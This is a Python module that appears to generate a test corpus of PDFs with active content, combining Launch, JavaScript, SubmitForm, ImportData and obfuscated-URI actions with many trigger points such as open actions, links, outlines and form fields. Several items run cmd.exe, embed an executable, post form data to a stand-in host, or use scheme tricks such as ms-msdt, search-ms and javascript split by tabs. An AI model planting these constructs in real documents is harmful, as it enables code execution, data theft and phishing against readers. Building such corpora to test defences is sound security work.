"""PDF files that act: further kinds of actions, and further places an action can be held in (ISO 32000-2, 12.6)."""

from collections.abc import Callable, Iterator
from typing import Any

from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from .pdf import MARKER, Attack, page_file, script

Make = Callable[[Pdf], Any]
Put = Callable[[Pdf, Any, Any], None]
_WHERE = f"http://{MARKER}/"


def _address(said: str | bytes) -> Make:
    return lambda pdf: Dictionary(S=Name.URI, URI=String(said))


def _file(said: str = MARKER) -> Dictionary:
    return Dictionary(Type=Name.Filespec, F=String(said), UF=String(said))


def _embedded(pdf: Pdf) -> Any:
    content = Stream(pdf, MARKER.encode(), Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=content, UF=content))
    )


def _rendition(pdf: Pdf) -> Any:
    clip = Dictionary(
        Type=Name.MediaClip, S=Name.MCD, N=String(MARKER), CT=String("video/x-ms-wmv"), D=_embedded(pdf)
    )
    played = Dictionary(Type=Name.Rendition, S=Name.MR, N=String(MARKER), C=clip)
    return Dictionary(S=Name.Rendition, OP=4, R=played, JS=Stream(pdf, f"app.alert('{MARKER}')".encode()))


def _launch(system: str) -> Make:
    parameters = Dictionary(
        F=String("cmd.exe"), P=String(f"/c start {_WHERE}"), O=String("open"), D=String("C:\\")
    )
    return lambda pdf: Dictionary({"/S": Name.Launch, f"/{system}": parameters, "/NewWindow": True})


def _without_kind(pdf: Pdf) -> Any:
    return Dictionary(Type=Name.Action, JS=String(f"app.alert('{MARKER}')"))


def _kind_of_another_type(pdf: Pdf) -> Any:
    return Dictionary(S=String("JavaScript"), JS=String(MARKER), URI=String(MARKER), F=String(MARKER))


def _chained(pdf: Pdf) -> Any:
    """An action followed by a list, of which each is followed by more and the last by the first."""
    last = pdf.make_indirect(script())
    first = pdf.make_indirect(
        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([last, script()]))
    )
    last.Next = Array([Dictionary(S=Name.Launch, F=_file(), Next=first), first])
    return first


def _script_in_pieces(pdf: Pdf) -> Any:
    said = Stream(pdf, f"app.launchURL('{_WHERE}')".encode("utf-16"))
    return Dictionary({"/S": Name("/JavaScript"), "/JS": said, "/Type": Name.Action})


def _go_inside(pdf: Pdf) -> Any:
    target = Dictionary(R=Name.C, N=String(MARKER), T=Dictionary(R=Name.P, P=0, A=String(MARKER)))
    return Dictionary(S=Name.GoToE, F=_embedded(pdf), T=target, D=Array([0, Name.Fit]), NewWindow=True)


KINDS: dict[str, Make] = {
    "launch with parameters": _launch("Win"),
    "launch for Unix": _launch("Unix"),
    "launch for Mac": _launch("Mac"),
    "launch of an embedded file": lambda pdf: Dictionary(S=Name.Launch, F=_embedded(pdf)),
    "script in a stream of UTF-16": _script_in_pieces,
    "script without a kind": _without_kind,
    "kind that is a string": _kind_of_another_type,
    "kind nobody knows": lambda pdf: Dictionary({"/S": Name("/Evil"), "/JS": String(MARKER)}),
    "chain in a ring": _chained,
    "go to a file at an address": lambda pdf: Dictionary(
        S=Name.GoToR, F=Dictionary(FS=Name.URL, F=String(_WHERE)), D=Array([0, Name.Fit])),
    "go into an embedded file": _go_inside,
    "go to a part": lambda pdf: Dictionary(S=Name.GoToDp, Dp=Dictionary(Type=Name.DPart, Note=String(MARKER))),
    "go to a view": lambda pdf: Dictionary(S=Name.GoTo3DView, TA=Dictionary(T=String(MARKER)), V=Name.F),
    "thread of another file": lambda pdf: Dictionary(S=Name.Thread, F=_file(), D=String(MARKER)),
    "rendition with a clip": _rendition,
    "sound from outside": lambda pdf: Dictionary(
        S=Name.Sound, Sound=Stream(pdf, b"", F=Dictionary(FS=Name.URL, F=String(_WHERE)), R=8000)),
    "movie by its operation": lambda pdf: Dictionary(S=Name.Movie, Operation=Name.Play, T=String(MARKER)),
    "rich media command": lambda pdf: Dictionary(
        S=Name.RichMediaExecute, CMD=Dictionary(C=String(MARKER), A=Array([String(MARKER)]))),
    "submit of chosen fields": lambda pdf: Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(_WHERE)), Fields=Array([String(MARKER)]), Flags=8),
    "import from a share": lambda pdf: Dictionary(S=Name.ImportData, F=_file(f"\\\\{MARKER}\\a.fdf")),
    "reset of fields": lambda pdf: Dictionary(S=Name.ResetForm, Fields=Array([String(MARKER)]), Flags=1),
    "layers switched": lambda pdf: Dictionary(S=Name.SetOCGState, State=Array([Name.Toggle]), Note=String(MARKER)),
    "transition": lambda pdf: Dictionary(S=Name.Trans, Trans=Dictionary(S=Name.Fly, Note=String(MARKER))),
    "named command": lambda pdf: Dictionary(S=Name.Named, N=Name("/" + MARKER)),
    "address with a tab in its scheme": _address(f"java\tscript:{MARKER}"),
    "address with a line in its scheme": _address(f"java\nscript:{MARKER}"),
    "address in capitals": _address(f" JavaScript:{MARKER}"),
    "address in UTF-16": _address(b"\xfe\xff" + f"javascript:{MARKER}".encode("utf-16-be")),
    "address in UTF-16 the other way": _address(b"\xff\xfe" + f"file://{MARKER}/a".encode("utf-16-le")),
    "address with a null": _address(b"https://www.example.lg.jp\x00.%s/" % MARKER.encode()),
    "address with another host before": _address(f"https://www.example.lg.jp@{MARKER}/"),
    "address with a backslash": _address(f"https:\\\\{MARKER}\\a"),
    "address of data": _address(f"data:text/html,<b>{MARKER}</b>"),
    "address of a share": _address(f"smb://{MARKER}/a"),
    "address of a search": _address(f"search-ms:query=a&crumb=location:\\\\{MARKER}"),
    "address of a tool": _address(f"ms-msdt:/id PCWDiagnostic /param {MARKER}"),
    "address of a macro": _address(f"vnd.sun.star.script:{MARKER}?language=Basic"),
    "address of a command": _address(f"cmd:/c {MARKER}"),
    "address of a transfer": _address(f"ftp://{MARKER}/a"),
    "address without a scheme": _address(f"//{MARKER}/a"),
    "address behind a scheme": _address(f"http:javascript:{MARKER}"),
    "address that attaches": _address(f"mailto:a@example.lg.jp?attach={MARKER}"),
    "address with marks of direction": _address(f"https://{MARKER}\u202e/a"),
}  # fmt: skip


# -- places -------------------------------------------------------------------------------------------------------


def _annotation(pdf: Pdf, page: Any, kind: str = "Link", **more: Any) -> Any:
    found = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([0, 0, 300, 200]), **more)
    )
    page.Annots = Array([*page.get("/Annots", []), found])
    return found


def _triggers(action: Any, *names: str) -> Dictionary:
    return Dictionary({f"/{name}": action for name in names})


def _on_link_before(pdf: Pdf, page: Any, action: Any) -> None:
    _annotation(pdf, page, PA=action, A=Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])))


def _behind_a_link(pdf: Pdf, page: Any, action: Any) -> None:
    several = Array([Dictionary(S=Name.GoTo, D=Array([page.obj, Name.Fit])), action])
    _annotation(pdf, page, A=Dictionary(S=Name.URI, URI=String("https://www.example.lg.jp/"), Next=several))


def _instead_of_a_target(pdf: Pdf, page: Any, action: Any) -> None:
    _annotation(pdf, page, Dest=Dictionary(D=Array([page.obj, Name.Fit]), A=action, SD=Array([action])))


def _named_target(pdf: Pdf, page: Any, action: Any) -> None:
    pdf.Root.Dests = Dictionary(place=Dictionary(D=Array([page.obj, Name.Fit]), A=action, Next=action))
    _annotation(pdf, page, Dest=Name.place)


def _on_screen(pdf: Pdf, page: Any, action: Any) -> None:
    _annotation(
        pdf,
        page,
        "Screen",
        A=action,
        AA=_triggers(action, "E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI"),
    )


def _on_note(pdf: Pdf, page: Any, action: Any) -> None:
    opened = _annotation(pdf, page, "Popup", A=action, AA=_triggers(action, "PV", "PO"))
    _annotation(pdf, page, "Text", Contents=String("a note"), Popup=opened, A=action, IRT=opened)


def _on_field_in_a_tree(pdf: Pdf, page: Any, action: Any) -> None:
    """The action is its parent's, whose kids form a ring."""
    parent = pdf.make_indirect(Dictionary(FT=Name.Btn, Ff=65536, T=String("a"), A=action))
    parent.AA = _triggers(action, "K", "F", "V", "C")
    field = _annotation(
        pdf, page, "Widget", Parent=parent, AA=_triggers(action, "D", "U"), MK=Dictionary(CA=String("x"))
    )
    parent.Kids = Array([field, parent])
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]), CO=Array([field]), NeedAppearances=True)


def _on_page_doors(pdf: Pdf, page: Any, action: Any) -> None:
    page.AA = _triggers(action, "O", "C")
    page.PresSteps = Dictionary(Type=Name.NavNode, NA=action, PA=action, Next=Dictionary(NA=action))
    page.Trans, page.Dur = Dictionary(S=Name.Wipe, Note=String(MARKER)), 1


def _on_catalog_doors(pdf: Pdf, page: Any, action: Any) -> None:
    pdf.Root.AA = _triggers(action, "WC", "WS", "DS", "WP", "DP")


def _above_the_pages(pdf: Pdf, page: Any, action: Any) -> None:
    pdf.Root.Pages.AA = _triggers(action, "O")
    pdf.Root.Pages.OpenAction = action


def _deep_in_the_outline(pdf: Pdf, page: Any, action: Any) -> None:
    outline = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    item = pdf.make_indirect(
        Dictionary(Title=String("第1章"), Parent=outline, Dest=Array([page.obj, Name.Fit]))
    )
    below = pdf.make_indirect(
        Dictionary(Title=String("1"), Parent=item, A=action, AA=_triggers(action, "O"), SE=action)
    )
    item.First = item.Last = below
    below.Next = below.First = item  # a ring
    outline.First = outline.Last = item
    pdf.Root.Outlines, pdf.Root.PageMode = outline, Name.UseOutlines


def _in_looping_names(pdf: Pdf, page: Any, action: Any) -> None:
    leaf = pdf.make_indirect(
        Dictionary(Names=Array([String("a"), action]), Limits=Array([String("a"), String("a")]))
    )
    middle = pdf.make_indirect(Dictionary(Limits=Array([String("z"), String("a")])))
    middle.Kids = Array([leaf, middle])
    named = (
        "JavaScript",
        "Dests",
        "AP",
        "Pages",
        "Templates",
        "IDS",
        "URLS",
        "Renditions",
        "AlternatePresentations",
    )
    pdf.Root.Names = Dictionary({f"/{name}": Dictionary(Kids=Array([middle])) for name in named})


def _asked_for_by_requirements(pdf: Pdf, page: Any, action: Any) -> None:
    handler = Dictionary(Type=Name.ReqHandler, S=Name.JS, Script=String(MARKER), A=action)
    pdf.Root.Requirements = Array([Dictionary(Type=Name.Requirement, S=Name.EnableJavaScripts, RH=handler)])


def _on_a_layer(pdf: Pdf, page: Any, action: Any) -> None:
    group = pdf.make_indirect(
        Dictionary(Type=Name.OCG, Name=String(MARKER), AA=_triggers(action, "O"), A=action)
    )
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(Order=Array([group]), A=action))
    page.Resources.Properties = Dictionary(L=group)


def _in_an_article(pdf: Pdf, page: Any, action: Any) -> None:
    thread = pdf.make_indirect(Dictionary(Type=Name.Thread, I=Dictionary(Title=String(MARKER)), A=action))
    bead = pdf.make_indirect(
        Dictionary(Type=Name.Bead, T=thread, P=page.obj, R=Array([0, 0, 9, 9]), A=action)
    )
    bead.N = bead.V = thread.F = bead
    page.B, pdf.Root.Threads = Array([bead]), Array([thread])


def _in_the_trailer(pdf: Pdf, page: Any, action: Any) -> None:
    pdf.trailer.OpenAction = action
    pdf.docinfo["/OpenAction"] = action


def _in_resources(pdf: Pdf, page: Any, action: Any) -> None:
    page.Resources.AA = _triggers(action, "O")
    page.Resources.Properties = Dictionary(M=Dictionary(A=action, JS=String(MARKER)))
    page.contents_add(Stream(pdf, b"/Span /M BDC 0 0 m EMC n /Span /M DP"))


def _on_a_form(pdf: Pdf, page: Any, action: Any) -> None:
    form = Stream(
        pdf, b"0 0 9 9 re f", Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), A=action, AA=_triggers(action, "O")
    )
    page.Resources.XObject = Dictionary(X=form)
    page.contents_add(Stream(pdf, b"/X Do"))


PLACES: dict[str, Put] = {
    "before a link": _on_link_before,
    "behind a link": _behind_a_link,
    "instead of a target": _instead_of_a_target,
    "at a named target": _named_target,
    "on a screen": _on_screen,
    "on a note": _on_note,
    "on the parent of a field": _on_field_in_a_tree,
    "at the doors of a page": _on_page_doors,
    "at the doors of the document": _on_catalog_doors,
    "above the pages": _above_the_pages,
    "deep in the outline": _deep_in_the_outline,
    "in names that loop": _in_looping_names,
    "at requirements": _asked_for_by_requirements,
    "on a layer": _on_a_layer,
    "in an article": _in_an_article,
    "in the trailer": _in_the_trailer,
    "in resources": _in_resources,
    "on a form": _on_a_form,
    "as it opens": lambda pdf, page, action: setattr(pdf.Root, "OpenAction", action),
    "on a link": lambda pdf, page, action: _annotation(pdf, page, A=action),
}


def _attack(kind: str, place: str) -> Attack:
    make, put = KINDS[kind], PLACES[place]
    return Attack(f"{kind} {place}", lambda: page_file(lambda pdf, page: put(pdf, page, make(pdf))))


def _attacks() -> Iterator[Attack]:
    """Each kind as it opens and on a link, and one of them in each other place."""
    for at, kind in enumerate(KINDS):
        places = {"as it opens", "on a link", list(PLACES)[at % len(PLACES)]}
        yield from (_attack(kind, place) for place in sorted(places))


ATTACKS = tuple(_attacks())
